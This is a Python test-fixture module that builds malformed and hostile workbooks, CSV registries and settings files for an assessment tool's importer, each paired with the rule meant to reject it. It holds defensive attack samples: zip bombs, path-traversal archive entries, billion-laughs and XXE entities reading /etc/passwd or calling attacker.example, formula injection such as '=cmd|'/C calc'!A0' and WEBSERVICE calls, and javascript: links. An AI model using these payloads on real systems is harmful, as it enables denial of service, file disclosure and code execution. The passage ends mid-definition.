"""Spoiled and hostile inputs, each with a name, how it is made, and the rule that refuses it.

`FOREIGN` are files for `lpa import`, made from a sound export or registry; `DATA` are data folders for `lpa
validate`, the tiny country spoiled; `CALLS` are calls that can't be. Beside these stand the spoiled countries
of `tests/spoiled.py`, one a rule. Everything is made anew from nothing random but `SEED`.
"""

from __future__ import annotations

import io
import os
import random
import re
import struct
import zipfile
from collections.abc import Callable, Iterable, Mapping
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import openpyxl
from openpyxl.worksheet.formula import ArrayFormula

from tests import dla_files
from tests.country import write_country
from tests.filled import filled
from tests.spoiled import (
    BOOK,
    CORRECTIONS,
    EBOOKS,
    INDICATORS,
    LGOS,
    MEDIA,
    PUBLICATION,
    ROUND,
    SCORES,
    STATISTICS,
    Spoil,
    linked,
    recode,
    swap,
    write,
)

SEED = 2568
Make = Callable[[Path], Path]
"""Makes a hostile file in a folder and returns its path."""

SPREADSHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
STYLES = "xl/styles.xml"
TYPES = "[Content_Types].xml"
BOOK_XML = "xl/workbook.xml"
RELATIONS = "xl/_rels/workbook.xml.rels"

# ---------------------------------------------------------------- sound files to begin with


@cache
def sound_export() -> bytes:
    """An export of five LGOs that `lpa import` takes, its texts in a table of their own as Excel does it."""
    with TemporaryDirectory() as folder:
        found = entries(dla_files.export(Path(folder), dla_files.rows_of(dla_files.LGOS)).read_bytes())
    texts: list[str] = []

    def shared(cell: re.Match[str]) -> str:
        texts.append(cell[2])
        return f'{cell[1]} t="s"><v>{len(texts) - 1}</v></c>'

    sheet = re.sub('(<c r="[A-Z]+[0-9]+") t="inlineStr"><is>(.*?)</is></c>', shared, found[SHEET].decode())
    found[SHEET] = sheet.replace(" />", "/>").encode()
    items = "".join(f"<si>{text}</si>" for text in texts)
    found[STRINGS] = f'<sst xmlns="{SPREADSHEET}">{items}</sst>'.encode()
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    part = f'<Override PartName="/{STRINGS}" ContentType="{kind}"/></Types>'
    found[TYPES] = found[TYPES].replace(b"</Types>", part.encode())
    related = f'<Relationship Id="rId98" Type="{OFFICE}sharedStrings" Target="/{STRINGS}"/></Relationships>'
    found[RELATIONS] = found[RELATIONS].replace(b"</Relationships>", related.encode())
    return packed(found.items())


def entries(workbook: bytes) -> dict[str, bytes]:
    """What stands in an archive, by name."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: Iterable[tuple[str, bytes]]) -> bytes:
    """An archive of `parts`, also where a name comes twice."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts:
            archive.NameToInfo.pop(name, None)
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return kept.getvalue()


def file(content: Callable[[], bytes], name: str = "hostile.xlsx") -> Make:
    """A file of these bytes."""

    def make(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(content())
        return path

    return make


def with_parts(**parts: bytes | str | None) -> Make:
    """The sound export with entries added, replaced or (None) taken out; ``__`` stands for a slash."""
    return with_entries({name.replace("__", "/"): part for name, part in parts.items()})


def with_entries(changes: Mapping[str, bytes | str | None]) -> Make:
    """The sound export with entries added, replaced or (None) taken out."""

    def content() -> bytes:
        found: dict[str, bytes | str | None] = {**entries(sound_export()), **changes}
        parts = ((name, part.encode() if isinstance(part, str) else part) for name, part in found.items())
        return packed((name, part) for name, part in parts if part is not None)

    return file(content)


def edited(name: str, *changes: str) -> Make:
    """The sound export with texts of one entry replaced: old, new, old, new…"""

    def content() -> bytes:
        found = entries(sound_export())
        text = found[name].decode()
        for old, new in zip(changes[::2], changes[1::2], strict=True):
            assert old in text, f"{name}: {old!r} in {text[:600]}"
            text = text.replace(old, new, 1)
        return packed({**found, name: text.encode()}.items())

    return file(content)


def doctype(name: str, definition: str, encoding: str = "utf-8") -> Make:
    """The sound export with a document type put before the root of one entry."""

    def content() -> bytes:
        found = entries(sound_export())
        text = found[name].decode().partition("?>")
        body = text[2] if text[1] else text[0]
        declared = f'<?xml version="1.0" encoding="{encoding}"?>{definition}{body}'
        return packed({**found, name: declared.encode(encoding)}.items())

    return file(content)


def changed(change: Callable[[Any], object], name: str = "hostile.xlsx") -> Make:
    """The sound export with its sheet changed by openpyxl."""

    def content() -> bytes:
        book = openpyxl.load_workbook(io.BytesIO(sound_export()))
        change(book.worksheets[0])
        kept = io.BytesIO()
        book.save(kept)
        return kept.getvalue()

    return file(content, name)


def cell(place: str, value: object, style: str = "") -> Make:
    """The sound export with one cell otherwise (H15 are the first marks of the first LGO, F15 its name)."""

    def change(sheet: Any) -> None:
        sheet[place] = value
        if style:
            sheet[place].number_format = style

    return changed(change)


def raw_number(text: str) -> Make:
    """The sound export with the first marks as this text where a number stands in XML."""
    return edited(SHEET, '<c r="H15" t="n"><v>20</v></c>', f'<c r="H15" t="n"><v>{text}</v></c>')


def bits(workbook: bytes, flag: int = 0, method: int | None = None, size: int | None = None) -> bytes:
    """An archive whose entries say otherwise: encrypted, packed in another way, of another size."""
    found, start = bytearray(workbook), 0
    while (start := found.find(b"PK\x01\x02", start)) >= 0:
        found[start + 8] |= flag
        if method is not None:
            found[start + 10 : start + 12] = struct.pack("<H", method)
        if size is not None:
            found[start + 24 : start + 28] = struct.pack("<I", size)
        start += 4
    return bytes(found)


def overlapping() -> bytes:
    """An archive in which many names share the bytes of one large entry."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries(sound_export()).items():
            archive.writestr(name, content)
        archive.writestr("xl/media/a.bin", bytes(200_000))
        shared = archive.getinfo("xl/media/a.bin")
        for number in range(100):
            twin = zipfile.ZipInfo(f"xl/media/{number:05}.bin")
            twin.header_offset, twin.CRC = shared.header_offset, shared.CRC
            twin.compress_size, twin.file_size = shared.compress_size, shared.file_size
            twin.compress_type = shared.compress_type
            archive.filelist.append(twin)
            archive.NameToInfo[twin.filename] = twin
    return kept.getvalue()


def nested(levels: int = 6) -> bytes:
    """An archive in an archive in an archive…, each level ten copies of the one within."""
    inner = bytes(1_000_000)
    for _ in range(levels):
        inner = packed((f"{number}.zip", inner) for number in range(10))
    return packed({**entries(sound_export()), "xl/media/picture.png": inner}.items())


def junk(size: int) -> bytes:
    """Bytes of no meaning, always the same."""
    return random.Random(SEED).randbytes(size)


LAUGHS = "<!DOCTYPE a [<!ENTITY l0 'ha'>" + "".join(
    f"<!ENTITY l{number} '{f'&l{number - 1};' * 10}'>" for number in range(1, 10)
)
RELATION = '<Relationship Id="rId99" Type="{}" Target="{}" TargetMode="External"/></Relationships>'
MARKS = '<c r="H15" t="n"><v>20</v></c>'
"""The first marks of the first LGO, in XML."""
BROKEN = ('<c r="H17" t="n"><v>20</v></c>', '<c r="H17" t="e"><v>#REF!</v></c>')
"""Marks, and an error in their place."""
SHEET_START = f'<worksheet xmlns="{SPREADSHEET}"><sheetData>'
SHEET_END = "</sheetData></worksheet>"


def many_cells(rows: int, columns: int, inside: str = "") -> str:
    """A sheet of as many cells."""
    row = f"<c>{inside}</c>" * columns
    return SHEET_START + f"<row>{row}</row>" * rows + SHEET_END


def same_sheet_again(times: int) -> Make:
    """A workbook that lists one large sheet again and again."""

    def content() -> bytes:
        found = entries(sound_export())
        book = found[BOOK_XML].decode()
        start = book.index("<sheet ")
        sheet = book[start : book.index("/>", start) + 2]
        name = sheet.split('name="')[1].split('"')[0]
        sheets = "".join(sheet.replace(f'"{name}"', f'"s{number}"') for number in range(times))
        found[BOOK_XML] = book.replace(sheet, sheets).encode()
        found[SHEET] = many_cells(1_000, 60, "<v>1</v>").encode()
        return packed(found.items())

    return file(content)


def hide(what: str) -> Callable[[Any], object]:
    """Hide a row, a column or the sheet."""

    def change(sheet: Any) -> None:
        if what == "row":
            sheet.row_dimensions[16].hidden = True
        elif what == "column":
            sheet.column_dimensions["H"].hidden = True
        else:
            sheet.parent.create_sheet("ว่าง")
            sheet.sheet_state = what

    return change


def rows_again(times: int) -> Callable[[Any], object]:
    """Rows under the table, one LGO again and again under other names."""

    def change(sheet: Any) -> None:
        sheet["B6"] = 5 + times
        for number in range(times):
            for column in range(1, 16):
                sheet.cell(20 + number, column, sheet.cell(15, column).value)
            sheet.cell(20 + number, 6, f"อบจ.จันทบุรี{number}")

    return change


def conflict(sheet: Any) -> None:
    """The first LGO a second time, with other marks."""
    sheet["B6"] = 6
    for column in range(1, 16):
        sheet.cell(20, column, sheet.cell(15, column).value)
    sheet["H20"], sheet["N20"] = 21, 38.5


FOREIGN_WORKBOOKS: dict[str, tuple[Make, str]] = {
    # the archive
    "zip bomb": (with_parts(xl__media__a=bytes(25_000_001)), "workbook_swollen"),
    "zip bomb in a sheet": (with_entries({SHEET: b" " * 25_000_001}), "workbook_swollen"),
    "zip bomb, nested": (file(nested), "workbook_active"),
    "zip bomb, overlapping entries": (file(overlapping), "workbook_unreadable"),
    "zip that lies about its sizes": (
        file(lambda: bits(packed({**entries(sound_export()), SHEET: bytes(30_000_000)}.items()), size=999)),
        "workbook_unreadable",
    ),
    "zip that claims four gigabytes": (
        file(lambda: bits(sound_export(), size=2**32 - 2)),
        "workbook_swollen",
    ),
    "zip of a thousand entries": (
        with_entries({f"xl/media/{number}.png": b"" for number in range(1_000)}),
        "workbook_swollen",
    ),
    "zip with a path out of it": (with_entries({"xl/../../evil.xml": "<a/>"}), "archive_tampered"),
    "zip with an absolute path": (with_entries({"/etc/passwd": "x"}), "archive_tampered"),
    "zip with a path of Windows": (with_entries({"C:\\evil.xml": "<a/>"}), "archive_tampered"),
    "zip with an entry twice": (
        file(lambda: packed([*entries(sound_export()).items(), (SHEET, b"<a/>")])),
        "archive_tampered",
    ),
    "zip with an entry twice but for its case": (
        with_entries({"XL/Worksheets/Sheet1.xml": "<a/>"}),
        "archive_tampered",
    ),
    "zip cut in half": (file(lambda: sound_export()[: len(sound_export()) // 2]), "workbook_unreadable"),
    "zip cut by a byte": (file(lambda: sound_export()[:-1]), "workbook_unreadable"),
    "zip with a password": (file(lambda: bits(sound_export(), flag=1)), "workbook_encrypted"),
    "zip packed in an unknown way": (file(lambda: bits(sound_export(), method=97)), "workbook_unreadable"),
    "zip whose contents were damaged": (
        file(lambda: sound_export()[:300] + junk(200) + sound_export()[500:]),
        "workbook_unreadable",
    ),
    "zip without anything": (file(lambda: packed([])), "not_a_workbook"),
    "zip that is no workbook": (file(lambda: packed([("readme.txt", b"x")])), "not_a_workbook"),
    "zip that is a letter": (file(lambda: packed([("word/document.xml", b"<a/>")])), "not_a_workbook"),
    "zip that is an OpenDocument": (
        file(lambda: packed([("mimetype", b"application/x"), ("content.xml", b"<a/>")])),
        "not_a_workbook",
    ),
    "zip that is a binary workbook": (file(lambda: packed([("xl/workbook.bin", b"x")])), "not_a_workbook"),
    "workbook with a password": (
        file(lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le") * 50),
        "workbook_encrypted",
    ),
    "old workbook named xlsx": (
        file(lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Workbook".encode("utf-16-le") + bytes(4_000)),
        "workbook_encrypted",
    ),
    "CSV named xlsx": (file(lambda: dla_files.REGISTRY.encode()), "not_a_workbook"),
    "CSV in cp874 named xlsx": (
        file(lambda: dla_files.REGISTRY.encode("cp874", "replace")),
        "not_a_workbook",
    ),
    "web page named xls": (file(lambda: b"<html><table><tr><td>1", "hostile.xls"), "not_a_workbook"),
    "PDF named xlsx": (file(lambda: b"%PDF-1.7\n" + junk(500)), "not_a_workbook"),
    "picture named xlsx": (file(lambda: b"\x89PNG\r\n\x1a\n" + junk(500)), "not_a_workbook"),
    "junk named xlsx": (file(lambda: b"\0" + junk(5_000)), "not_a_workbook"),
    "nothing named xlsx": (file(lambda: b""), "not_a_workbook"),
    "workbook of three megabytes": (file(lambda: sound_export() + bytes(3_000_000)), "file_too_large"),
    # XML
    "a billion laughs in the sheet": (doctype(SHEET, LAUGHS + "]>"), "workbook_doctype"),
    "a billion laughs in the texts": (doctype(STRINGS, LAUGHS + "]>"), "workbook_doctype"),
    "an entity that reads a file": (
        doctype(SHEET, "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>"),
        "workbook_doctype",
    ),
    "a document type on the network": (
        doctype(BOOK_XML, "<!DOCTYPE a SYSTEM 'http://attacker.example/a.dtd'>"),
        "workbook_doctype",
    ),
    "a parameter entity": (
        doctype(STYLES, "<!DOCTYPE a [<!ENTITY % b SYSTEM 'http://attacker.example/'> %b;]>"),
        "workbook_doctype",
    ),
    "a document type in UTF-16": (doctype(SHEET, LAUGHS + "]>", "utf-16"), "workbook_doctype"),
    "a document type after a long remark": (
        doctype(SHEET, f"<!--{' ' * 5_000}--><!DOCTYPE a>"),
        "workbook_doctype",
    ),
    "a document type in a part of another name": (
        with_entries({"xl/strings.bin": "<!DOCTYPE a [<!ENTITY b 'c'>]><sst>&b;</sst>"}),
        "workbook_doctype",
    ),
    "XML as deep as a well": (with_entries({SHEET: "<a>" * 100_000}), "workbook_swollen"),
    "styles as deep as a well": (
        with_entries({STYLES: "<a>" * 100_000 + "</a>" * 100_000}),
        "workbook_swollen",
    ),
    "XML that isn't": (
        with_entries({SHEET: "<worksheet><sheetData><row></worksheet>"}),
        "workbook_unreadable",
    ),
    "a million texts": (
        with_entries({STRINGS: f'<sst xmlns="{SPREADSHEET}">{"<si/>" * 1_000_000}</sst>'}),
        "workbook_swollen",
    ),
    "a hundred thousand styles": (
        with_entries({STYLES: f"<styleSheet><cellXfs>{'<xf/>' * 100_000}</cellXfs></styleSheet>"}),
        "workbook_swollen",
    ),
    "a million empty cells": (with_entries({SHEET: many_cells(10_000, 100)}), "workbook_swollen"),
    "four hundred thousand cells": (
        with_entries({SHEET: many_cells(4_000, 100, "<v>1</v>")}),
        "workbook_swollen",
    ),
    "a text of twenty million letters": (
        with_entries({STRINGS: f"<sst><si><t>{'ก' * 6_000_000}</t></si></sst>"}),
        "workbook_unreadable",
    ),
    "a large sheet two hundred times": (same_sheet_again(200), "workbook_unreadable"),
    "a text that isn't there": (
        edited(SHEET, 't="s"><v>0</v>', 't="s"><v>999999</v>'),
        "workbook_unreadable",
    ),
    "a sheet that isn't there": (with_entries({SHEET: None}), "workbook_unreadable"),
    "no table of contents": (with_entries({TYPES: None}), "workbook_unreadable"),
    "rows in the wrong order": (edited(SHEET, '<row r="16"', '<row r="14"'), "workbook_unreadable"),
    "a row twice": (edited(SHEET, '<row r="16"', '<row r="15"'), "workbook_unreadable"),
    "a cell twice": (edited(SHEET, '<c r="I15"', '<c r="H15"'), "workbook_unreadable"),
    "a cell in another's row": (edited(SHEET, '<c r="I15"', '<c r="I16"'), "workbook_unreadable"),
    # what acts or points elsewhere
    "macros": (with_parts(**{"xl__vbaProject.bin": b"x"}), "workbook_active"),
    "macros under another name": (
        edited(
            TYPES,
            "</Types>",
            '<Override PartName="/xl/a.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        ),
        "workbook_active",
    ),
    "a workbook that says it has macros": (
        edited(TYPES, "spreadsheetml.sheet.main+xml", "sheet.macroEnabled.main+xml"),
        "workbook_active",
    ),
    "a macro sheet of 1992": (with_parts(**{"xl__macrosheets__sheet1.xml": "<a/>"}), "workbook_active"),
    "a link to another workbook": (
        with_parts(**{"xl__externalLinks__externalLink1.xml": "<a/>"}),
        "workbook_active",
    ),
    "a template from the network": (
        edited(
            RELATIONS,
            "</Relationships>",
            RELATION.format(OFFICE + "attachedTemplate", "http://attacker.example/a.xltm"),
        ),
        "workbook_active",
    ),
    "a picture from the network": (
        edited(
            RELATIONS,
            "</Relationships>",
            RELATION.format(OFFICE + "image", "\\\\attacker.example\\share\\a.png"),
        ),
        "workbook_active",
    ),
    "an embedded object": (with_parts(**{"xl__embeddings__oleObject1.bin": b"x"}), "workbook_active"),
    "an ActiveX control": (with_parts(**{"xl__activeX__activeX1.bin": b"x"}), "workbook_active"),
    "a connection to a database": (
        with_parts(**{"xl__connections.xml": "<connections/>"}),
        "workbook_active",
    ),
    "a program inside": (with_parts(**{"xl__media__image1.png": b"MZ" + junk(500)}), "workbook_active"),
    # where cells are, and what a person doesn't see
    "a cell at the end of the world": (cell("XFD1048576", 1), "cell_far_away"),
    "a cell below all tables": (cell("A20001", 1), "cell_far_away"),
    "a cell right of all tables": (cell("GS15", 1), "cell_far_away"),
    "a false dimension over an error": (
        edited(SHEET, 'ref="A1:O19"', 'ref="A1:B2"', *BROKEN),
        "error_in_workbook",
    ),
    "no dimension over an error": (
        edited(SHEET, '<dimension ref="A1:O19"/>', "", *BROKEN),
        "error_in_workbook",
    ),
    "a dimension of the whole world over an error": (
        edited(SHEET, 'ref="A1:O19"', 'ref="A1:XFD1048576"', *BROKEN),
        "error_in_workbook",
    ),
    "a hidden row": (changed(hide("row")), "hidden_rows"),
    "a hidden column": (changed(hide("column")), "hidden_columns"),
    "a hidden sheet": (changed(hide("hidden")), "hidden_sheet"),
    "a sheet hidden from the menu too": (changed(hide("veryHidden")), "hidden_sheet"),
    "marks merged over two rows": (changed(lambda sheet: sheet.merge_cells("H15:H16")), "export_not_marks"),
    "names merged over two rows": (
        changed(lambda sheet: sheet.merge_cells("F15:F16")),
        "export_cell_missing",
    ),
    "marks under a merged cell": (
        edited(
            SHEET, "</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="H15:H16"/></mergeCells>'
        ),
        "covered_cell",
    ),
    "merged cells without end": (
        edited(
            SHEET,
            "</sheetData>",
            "</sheetData><mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 5_000 + "</mergeCells>",
        ),
        "workbook_swollen",
    ),
    "headings twice": (cell("J12", "ด้านที่ 1 การบริหารจัดการ"), "export_layout"),
    "a dimension of five thousand digits": (cell("J12", "ด้านที่ " + "9" * 3_900), "export_layout"),
    # what stands in a cell
    "a formula with its value": (
        edited(SHEET, MARKS, '<c r="H15"><f>10+10</f><v>20</v></c>'),
        "formula_in_workbook",
    ),
    "a formula without its value": (cell("H15", "=10+10"), "formula_in_workbook"),
    "a formula shared": (
        edited(SHEET, MARKS, '<c r="H15"><f t="shared" ref="H15:H16" si="0">10+10</f><v>20</v></c>'),
        "formula_in_workbook",
    ),
    "a formula of arrays": (cell("H15", ArrayFormula("H15:H16", "=10+10")), "formula_in_workbook"),
    "a formula that fetches": (cell("F15", '=WEBSERVICE("http://attacker.example/")'), "formula_in_workbook"),
    "a link in a formula": (
        cell("F15", '=HYPERLINK("http://attacker.example/","อบจ.")'),
        "formula_in_workbook",
    ),
    "a formula as text": (
        edited(SHEET, MARKS, '<c r="H15" t="inlineStr"><is><t>=10+10</t></is></c>'),
        "formula_in_workbook",
    ),
    "a division by zero": (cell("H15", "#DIV/0!"), "error_in_workbook"),
    "a name that isn't known": (cell("F15", "#NAME?"), "error_in_workbook"),
    "true for marks": (cell("H15", True), "export_not_marks"),
    "a date for marks": (cell("H15", 45_231, "yyyy-mm-dd"), "export_not_marks"),
    "a date beyond all calendars": (cell("H15", 10**12, "yyyy-mm-dd"), "error_in_workbook"),
    "a time for marks": (cell("H15", 0.5, "hh:mm"), "export_not_marks"),
    "nan in the XML": (raw_number("nan"), "workbook_unreadable"),
    "inf in the XML": (raw_number("inf"), "workbook_unreadable"),
    "1e309 in the XML": (raw_number("1e309"), "export_not_marks"),
    "1e300 in the XML": (raw_number("1e300"), "export_not_marks"),
    "a minus in the XML": (raw_number("-5"), "export_not_marks"),
    "five thousand digits in the XML": (raw_number("9" * 5_000), "workbook_unreadable"),
    "four thousand digits in the XML": (raw_number("9" * 4_000), "export_not_marks"),
    "decimals of a machine": (raw_number("20.000000000000004"), "export_not_marks"),
    **{
        f"marks written as {text!r}": (cell("H15", text), "export_not_marks")
        for text in (
            *(
                "1-ม.ค.",
                "nan",
                "inf",
                "1e309",
                "4,5",
                "1_0",
                "+3",
                "03",
                "-0",
                "３",
                "٣",
                "1 000",
                "20%",
                "½",
            ),
            *("ยี่สิบ", "-", "20 คะแนน", "0x14", "9" * 3_000),
        )
    },
    "no marks": (cell("H15", None), "export_not_marks"),
    "more marks than there are": (cell("H15", 31), "export_over_full"),
    "a total that isn't": (cell("N15", 99), "export_total"),
    "a name of nothing but zero-width characters": (cell("F15", "\u200b\u200b"), "export_cell_missing"),
    "a name that turns the line around": (cell("F15", "อบจ.\u2067จันทบุรี"), "control_character"),
    "a name with a broken character": (cell("F15", "อบจ.จันท\ufffdรี"), "control_character"),
    "a name with marks on marks": (cell("F15", "อบจ.จันทบุรี" + "\u0e49" * 500), "marks_on_marks"),
    "a name of thirty thousand letters": (cell("F15", "อบจ." + "ก" * 30_000), "cell_too_long"),
    **{
        f"a name that begins as a formula: {text}": (cell("F15", text), "formula_like_name")
        for text in ("@SUM(A1:A9)", "+66 39 312 100", "-2+3|cmd'/C calc'!A0", "＝1+1")
    },
    "a province that is a path": (cell("C15", "../../../etc/passwd"), "import_unknown_province"),
    "a province that is an address": (cell("C15", "http://attacker.example/"), "import_unknown_province"),
    "a province that is a share": (cell("C15", "\\\\attacker.example\\share"), "import_unknown_province"),
    "a province that is no part of LPA": (cell("C15", "กรุงเทพมหานคร"), "import_unknown_province"),
    "the year of another round": (cell("A3", "การประเมิน ประจำปี 2567"), "export_of_other_year"),
    "more rows than LGOs": (changed(rows_again(400)), "more_rows_than_lgos"),
    "an LGO twice with unlike marks": (changed(conflict), "export_row_conflict"),
    # names of files
    "a file name of two lines": (file(sound_export, "two\nlines.xlsx"), "odd_file_name"),
    "a file name that is no text": (file(sound_export, os.fsdecode(b"\xff\xfe.xlsx")), "odd_file_name"),
    "a file name that turns around": (file(sound_export, "lpa\u202excod.xlsx"), "odd_file_name"),
    "a file name that is a formula": (file(sound_export, "=1+1.xlsx"), "odd_file_name"),
}
"""What happens to a sound export workbook."""


def csv_file(content: Callable[[], bytes] | str) -> Make:
    """A CSV of this text or of these bytes."""
    return file(content.encode if isinstance(content, str) else content, "hostile.csv")


def registry(*changes: str) -> Make:
    """The sound registry with texts replaced."""
    text = dla_files.REGISTRY
    for old, new in zip(changes[::2], changes[1::2], strict=True):
        assert old in text
        text = text.replace(old, new)
    return csv_file(text)


ROW = "จันทบุรี,ขลุง,บ่อ,6220201,อบต.,บ่อทอง,,,,,,,\n"

FOREIGN_CSV: dict[str, tuple[Make, str]] = {
    "CSV in cp874": (csv_file(lambda: dla_files.REGISTRY.replace("รํา", "รำ").encode("cp874")), "not_utf8"),
    "CSV in UTF-16": (csv_file(lambda: dla_files.REGISTRY.encode("utf-16")), "not_utf8"),
    "CSV with NUL": (registry("บ่อทอง", "บ่อ\0ทอง"), "not_utf8"),
    "CSV with a letter cut in half": (csv_file(lambda: dla_files.REGISTRY.encode()[:20]), "not_utf8"),
    "CSV with semicolons": (registry(",", ";"), "wrong_delimiter"),
    "CSV with tabs": (csv_file("จังหวัด\tอำเภอ\tรหัส อปท.\n"), "wrong_delimiter"),
    "CSV of a million columns": (csv_file(lambda: b"a," * 1_000_000 + b"\n"), "endless_line"),
    "CSV of two thousand columns": (csv_file(lambda: b"a," * 2_000 + b"\n"), "too_many_columns"),
    "CSV of one endless line": (csv_file(lambda: b"9" * 9_000_000), "endless_line"),
    "CSV with an endless cell in quotes": (csv_file(lambda: b'a,b\n"' + b"x\n" * 190_000), "broken_quotes"),
    "CSV with an open quotation mark": (registry("บ่อทอง", '"บ่อทอง'), "broken_quotes"),
    "CSV of an old Macintosh": (registry("\n", "\r"), "lone_return"),
    "CSV of eleven megabytes": (csv_file(lambda: b"a,b\n" * 2_750_001), "file_too_large"),
    "CSV of a million lines": (csv_file(lambda: b"a,b\n" * 1_000_000), "too_many_lines"),
    "CSV of blank lines": (csv_file(lambda: b"\n" * 9_000_000), "too_many_lines"),
    "CSV of nothing": (csv_file(""), "unrecognised_file"),
    "CSV of another table": (csv_file("a,b\n1,2\n"), "unrecognised_file"),
    "a picture named csv": (csv_file(lambda: b"\x89PNG\r\n\x1a\n" + junk(500)), "not_a_workbook"),
    "a page named csv": (csv_file("<!DOCTYPE html><p>404"), "not_a_workbook"),
    "junk named csv": (csv_file(lambda: junk(5_000)), "not_utf8"),
    "registry with a control character": (registry("บ่อทอง", "บ่อ\x07ทอง"), "control_character"),
    "registry with a broken character": (registry("บ่อทอง", "บ่อ\ufffdทอง"), "control_character"),
    "registry with an endless name": (registry("บ่อทอง", "บ่อทอง" * 5_000), "cell_too_long"),
    "registry with marks on marks": (registry("บ่อทอง", "บ่อทอง" + "\u0e49" * 3_000), "marks_on_marks"),
    "registry with a formula for a name": (registry("บ่อทอง", "=cmd|'/C calc'!A0"), "formula_like_name"),
    "registry with a formula at an LGO": (registry("บ่อทอง", "@SUM(A1)"), "formula_like_name"),
    "registry with a code of another province": (registry("6220201", "6230201"), "registry_code_province"),
    "registry with a code of words": (registry("6220201", "../6220201"), "registry_code"),
    "registry with a code in full width": (registry("6220201", "６２２０２０１"), "registry_code"),
    "registry with an endless code": (registry("6220201", "9" * 3_999), "registry_code"),
    "registry with a type of its own": (registry("6220201,อบต.", "6220201,อบล."), "registry_type"),
    "registry with an address for a province": (
        registry("จันทบุรี,ขลุง", "http://a.example/,ขลุง"),
        "import_unknown_province",
    ),
    "registry with one code for two": (
        registry(ROW, ROW + ROW.replace("บ่อทอง", "บ่อเงิน")),
        "registry_conflict",
    ),
}
"""Delimited files, and the registry spoiled."""

FOREIGN = {**FOREIGN_WORKBOOKS, **FOREIGN_CSV}

SOUND: dict[str, Make] = {
    "dla_export": file(sound_export),
    "open_registry": registry(),
    "forms": filled,
    "hpa_export": lambda folder: dla_files.hpa(folder, [("ท่าใหม่", "ทต.", "นาริมน้ำ")], [(55, 40)]),
    "confirmations": lambda folder: dla_files.confirmations(folder, [("ท่าใหม่", "ทต.นาริมน้ำ", 1, None, "")]),
}
"""A sound file for each of `generator.intake.READERS`, by the reader's module."""

# ---------------------------------------------------------------- the data folder


def score(text: str) -> Spoil:
    """The tiny country with a score written so."""
    quoted = '"' + text.replace('"', '""') + '"'
    return swap(SCORES, "05220301,3,", f"05220301,{quoted},")


def population(text: str) -> Spoil:
    """The tiny country with a population written so."""
    return swap(STATISTICS, "536496", f'"{text}"')


def setting(old: str, new: str) -> Spoil:
    """The round's settings with a text replaced."""
    return swap(ROUND, old, new)


def special(make: Callable[[Path], object], path: str) -> Spoil:
    """Something that is no file, made at `path`."""

    def apply(data: Path) -> None:
        (data / path).unlink(missing_ok=True)
        make(data / path)

    return apply


def odd_name(name: bytes) -> Spoil:
    """A file of an odd name beside the scores."""
    return write(f"rounds/2568/scores/{os.fsdecode(name)}", b"x")


def deep(data: Path) -> None:
    """Folders in folders in folders."""
    here = data
    for _ in range(400):
        here /= "d"
    here.mkdir(parents=True)


def million_columns(data: Path) -> None:
    """A heading of a million columns, each of another name."""
    names = ",".join(f"{number:x}" for number in range(1_000_000))
    (data / SCORES).write_text(f"lgo_code,{names}\n" + "1," * 999_999 + "1\n", encoding="utf-8")


def filler(path: str, content: Callable[[], bytes]) -> Spoil:
    """A file written whole, made when it is needed."""
    return lambda data: write(path, content())(data)


NUMBERS = {
    **dict.fromkeys(
        ("nan", "inf", "-inf", "1-ม.ค.", "TRUE", "#DIV/0!", "#N/A", "0x5", "½", "٣", "３", "Ⅲ"),
        "unknown_word",
    ),
    **dict.fromkeys(
        ("1e309", "1_0", "+3", "03", "-0", "3.0", "3.", ".5", "3%", "9" * 3_000), "number_spelling"
    ),
    **dict.fromkeys(("4,5", "1,000"), "comma_number"),
    **dict.fromkeys(("๔.๕", "๓"), "thai_digits"),
    **dict.fromkeys(("3\u00a0", " 3", "1 0"), "stray_space"),
    **dict.fromkeys(("3\u200b", "3\n", "3\x1b[31m", "\ufeff3"), "hidden_character"),
    **dict.fromkeys(("=1+1", "@3", "cut!", "../3", "file:///etc/passwd"), "unknown_word"),
    **dict.fromkeys(("4", "-3", "999999999999"), "outside_steps"),
    "9" * 5_000: "too_long",
}
"""What may stand where a score belongs, and the rule that sees it."""
NUMBERS["1 0"] = "unknown_word"

NAMES = {
    **dict.fromkeys(('=HYPERLINK("http://a.example")', "+66ก", "-2ก", "@SUM(ก)", "＝ก"), "formula_text"),
    **dict.fromkeys(
        ("ก\u202eข", "ก\u2066ข", "ก\u200dข", "ก\u00adข", "ก\x00ข"[:1] + "\x07ข", "ก\ufffdข", "ก\uf70aข"),
        "hidden_character",
    ),
    **dict.fromkeys(("{{ก}}", "{%ก%}", "<%ก%>"), "template_delimiter"),
    "ก" + "\u0301\u0323" * 1_900: "stacked_marks",
    "ก" * 100_000: "endless_line",
    "ก" * 50_000: "too_long",
    "ก\u00a0ข": "stray_space",
}
"""What may stand where a name belongs."""

LINKS = {
    **dict.fromkeys(
        (
            *("javascript:alert(1)", "file:///etc/passwd", "\\\\attacker.example\\share", "../../etc/passwd"),
            *(
                "/etc/passwd",
                "ftp://a.example/",
                "data:text/html;x",
                "//a.example/",
                "http\u017f://a.example/",
            ),
            *("https://a.example/<script>", "https://user@a.example/", "http://\u0131.example/"),
        ),
        "odd_link",
    ),
}

YAML = {
    "YAML with aliases": (setting("decimals: 2", "a: &a [1]\nb: *a\ndecimals: 2"), "unreadable_settings"),
    "YAML of a billion laughs": (
        write(
            ROUND,
            b"a: &a [x,x,x,x,x,x,x,x,x]\n"
            + b"".join(
